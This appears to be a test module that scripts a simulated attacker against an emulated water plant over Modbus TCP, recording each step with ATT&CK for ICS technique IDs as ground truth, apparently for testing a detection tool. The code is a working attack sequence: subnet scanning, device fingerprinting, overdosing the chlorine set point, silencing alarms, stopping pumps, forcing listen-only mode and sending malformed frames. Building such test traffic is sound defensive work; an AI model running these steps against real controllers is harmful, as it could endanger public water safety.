"""An engineering laptop in the wrong hands: `python -m tests.plant.attacker NAME START PACE OUTPUT`. One step of the attack is one function."""

import asyncio
import struct
import time
from collections.abc import AsyncGenerator, Iterable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

from pymodbus.client import AsyncModbusTcpClient
from pymodbus.pdu import ModbusPDU
from pymodbus.pdu.bit_message import WriteMultipleCoilsRequest, WriteSingleCoilRequest
from pymodbus.pdu.diag_message import (
    ClearCountersRequest,
    ForceListenOnlyModeRequest,
    RestartCommunicationsOptionRequest,
    ReturnQueryDataRequest,
)
from pymodbus.pdu.file_message import FileRecord, ReadFileRecordRequest, WriteFileRecordRequest
from pymodbus.pdu.mei_message import ReadDeviceInformationRequest
from pymodbus.pdu.other_message import ReadExceptionStatusRequest, ReportDeviceIdRequest
from pymodbus.pdu.register_message import (
    MaskWriteRegisterRequest,
    ReadWriteMultipleRegistersRequest,
    WriteMultipleRegistersRequest,
    WriteSingleRegisterRequest,
)

from tests.plant.cue import PATIENCE, Cue
from tests.plant.plan import (
    ATTACK,
    CHLORINATION,
    CHLORINE_ALARMS,
    CHLORINE_SET_POINT,
    METER,
    P1,
    P2,
    P3,
    PORT,
    PUMPING,
    RESERVOIR,
)
from tests.plant.pollers import read
from tests.plant.truth import Attack, Diary, Step

NEIGHBOURHOOD = tuple(f"10.20.1.{last}" for last in range(10, 34)) + tuple(f"10.20.2.{last}" for last in range(9, 22))
RARE_FUNCTIONS = (9, 10, 13, 14, 18, 19, 25, 26, 40, 41, 42, 65, 66, 67, 68, 69, 70, 71, 72, 80, 90, 91, 100, 101, 102, 103, 110, 125, 126, 127)
GUESSED_ADDRESSES = (0, 10, 20, 30, 40, 50, 100, 200, 300, 400, 500, 1000, 2000, 4000, 10000, 40000, 65526)
SILENCE = 13.0
"""Seconds of the story that a controller is kept in listen only mode: long enough for the HMI to lose it."""


class Unlisted(ModbusPDU):
    """A request with a function code and nothing else."""

    def __init__(self, function: int, unit: int) -> None:
        super().__init__(dev_id=unit)
        self.function_code = function


@dataclass
class Attacker:
    """The attacker's connections, and what he did."""

    cue: Cue
    diary: Diary = field(default_factory=Diary)
    steps: list[Step] = field(default_factory=list[Step])
    clients: dict[str, AsyncModbusTcpClient] = field(default_factory=dict[str, AsyncModbusTcpClient])

    @asynccontextmanager
    async def step(self, name: str, techniques: Iterable[str], victims: Iterable[str]) -> AsyncGenerator[None]:
        """A named step; what is asked inside it belongs to it."""
        row: Step = {
            "step": len(self.steps) + 1,
            "name": name,
            "techniques": list(techniques),
            "victims": list(victims),
            "start": time.time(),
            "end": 0,
        }
        self.diary.step = row["step"]
        yield
        row["end"] = time.time()
        self.steps.append(row)
        await self.cue.rest(0.8)

    async def open(self, destination: str) -> bool:
        """Connect where not connected yet; say whether anyone is there."""
        client = AsyncModbusTcpClient(destination, port=PORT, timeout=PATIENCE / 2, retries=0, reconnect_delay=0)
        if await client.connect():
            self.clients[destination] = client
        return destination in self.clients

    async def ask(self, destination: str, *requests: ModbusPDU, pause: float = 0.25) -> None:
        """Send requests one after the other."""
        for request in requests:
            await self.diary.ask(self.clients[destination], request)
            await self.cue.rest(pause)

    def told(self) -> Attack:
        """The attack, as the ground truth has it."""
        ips = [address.ip for address in self.cue.host.addresses]
        return {
            "start": self.steps[0]["start"],
            "end": self.steps[-1]["end"],
            "attacker": ips,
            "victims": [P1, P2, P3],
            "steps": self.steps,
        }


async def discover(attacker: Attacker) -> None:
    """Try the Modbus port of the neighbourhood, a few addresses at a time."""
    async with attacker.step("look for controllers", ["T0846"], NEIGHBOURHOOD):
        for start in range(0, len(NEIGHBOURHOOD), 8):
            await asyncio.gather(*(attacker.open(ip) for ip in NEIGHBOURHOOD[start : start + 8]))


async def identify(attacker: Attacker) -> None:
    """Ask every controller what it is, and the gateway which units it serves."""
    async with attacker.step("read identities", ["T0888"], [P1, P2, P3]):
        for destination, unit in ((P1, PUMPING), (P2, CHLORINATION), (P3, RESERVOIR)):
            await attacker.ask(destination, ReturnQueryDataRequest(message=b"\xba\x1e", dev_id=unit))
            await attacker.ask(destination, *(ReadDeviceInformationRequest(code, dev_id=unit) for code in (1, 2)))
            await attacker.ask(destination, ReportDeviceIdRequest(dev_id=unit))
    async with attacker.step("look for units behind the gateway", ["T0846"], [P3]):
        await attacker.ask(P3, *(read(4, 0, 1, unit) for unit in range(1, 21)), pause=0.08)


async def explore(attacker: Attacker) -> None:
    """Find out which functions and which addresses there are."""
    async with attacker.step("try function codes", ["T0888"], [P1]):
        await attacker.ask(P1, ReadExceptionStatusRequest(dev_id=PUMPING))
        await attacker.ask(P1, *(Unlisted(function, PUMPING) for function in RARE_FUNCTIONS), pause=0.08)
    async with attacker.step("try addresses", ["T0861"], [P2]):
        for function in (3, 4):
            await attacker.ask(P2, *(read(function, first, 10, CHLORINATION) for first in GUESSED_ADDRESSES), pause=0.08)
        await attacker.ask(P2, *(read(function, 0, 16, CHLORINATION) for function in (1, 2)))


async def files(attacker: Attacker) -> None:
    """Read a file record, and write one."""
    async with attacker.step("read a file", ["T0893"], [P1]):
        await attacker.ask(P1, ReadFileRecordRequest([FileRecord(4, 0, record_length=20)], dev_id=PUMPING))
    async with attacker.step("write a file", ["T0867"], [P1]):
        await attacker.ask(P1, WriteFileRecordRequest([FileRecord(4, 2, b"PUMP=0;LOCK=1;")], dev_id=PUMPING))


async def parameters(attacker: Attacker) -> None:
    """Far too much chlorine, and alarms that will not say so."""
    async with attacker.step("chlorine set point out of range", ["T0836"], [P2]):
        await attacker.ask(P2, WriteSingleRegisterRequest(address=CHLORINE_SET_POINT, registers=[950], dev_id=CHLORINATION))
    async with attacker.step("silence the alarms", ["T0836", "T0838"], [P2]):
        await attacker.ask(P2, WriteMultipleRegistersRequest(address=CHLORINE_ALARMS, registers=[0, 9999], dev_id=CHLORINATION))
    async with attacker.step("change the control word and the pressure", ["T0836"], [P1, P3]):
        await attacker.ask(P1, MaskWriteRegisterRequest(address=3, and_mask=0xFFFE, or_mask=0x0000, dev_id=PUMPING))
        await attacker.ask(P3, ReadWriteMultipleRegistersRequest(0, 4, 0, [640, 900], dev_id=RESERVOIR))


async def commands(attacker: Attacker) -> None:
    """Stop the pumps, switch one fast, and write to every unit at once."""
    async with attacker.step("pumps off", ["T0855"], [P1, P3]):
        await attacker.ask(P1, *(WriteSingleCoilRequest(address=coil, bits=[False], dev_id=PUMPING) for coil in (0, 1)))
        await attacker.ask(P3, WriteMultipleCoilsRequest(address=0, bits=[False, False, False], dev_id=RESERVOIR))
    async with attacker.step("switch a pump fast", ["T0806"], [P1]):
        switched = (WriteSingleCoilRequest(address=1, bits=[turn % 2 == 0], dev_id=PUMPING) for turn in range(12))
        await attacker.ask(P1, *switched, pause=0.12)
    async with attacker.step("write to all units", ["T0855", "T0836"], [P3]):
        await attacker.ask(P3, WriteSingleRegisterRequest(address=0, registers=[0], dev_id=0), read(3, 0, 1, METER))


async def malform(attacker: Attacker) -> None:
    """Send what is no Modbus message, past the stack, each on a connection of its own."""
    request = struct.pack("!BBHH", PUMPING, 3, 0, 4)
    wrong = {
        "protocol": struct.pack("!HHH", 1, 0x1234, len(request)) + request,
        "length": struct.pack("!HHH", 2, 0, 300) + request,
    }
    async with attacker.step("malformed headers", ["T0814"], [P1]):
        for malformed, data in wrong.items():
            _, writer = await asyncio.open_connection(P1, PORT)
            attacker.diary.raw(writer.get_extra_info("sockname"), P1, data, malformed)
            writer.write(data)
            await attacker.cue.rest(0.6)
            writer.close()
            await writer.wait_closed()


async def blind(attacker: Attacker) -> None:
    """Wipe the counters, make a controller fall silent, and wake it up again."""
    async with attacker.step("clear the counters", ["T0872"], [P1, P2]):
        await attacker.ask(P1, ClearCountersRequest(dev_id=PUMPING))
        await attacker.ask(P2, ClearCountersRequest(dev_id=CHLORINATION))
    async with attacker.step("force listen only", ["T0814"], [P2]):
        await attacker.ask(P2, ForceListenOnlyModeRequest(dev_id=CHLORINATION))
        await attacker.cue.rest(SILENCE)
    async with attacker.step("restart communications", ["T0816"], [P2]):
        restart = (RestartCommunicationsOptionRequest(message=0xFF00, dev_id=CHLORINATION) for _ in range(2))
        await attacker.ask(P2, *restart)


async def work(cue: Cue) -> None:
    """Wait for the moment, then step after step."""
    attacker = Attacker(cue)
    await cue.until(ATTACK)
    for act in (discover, identify, explore, files, parameters, commands, malform, blind):
        await act(attacker)
    for client in attacker.clients.values():
        client.close()
    cue.save({"requests": attacker.diary.requests, "attack": attacker.told()})


if __name__ == "__main__":
    asyncio.run(work(Cue.read()))
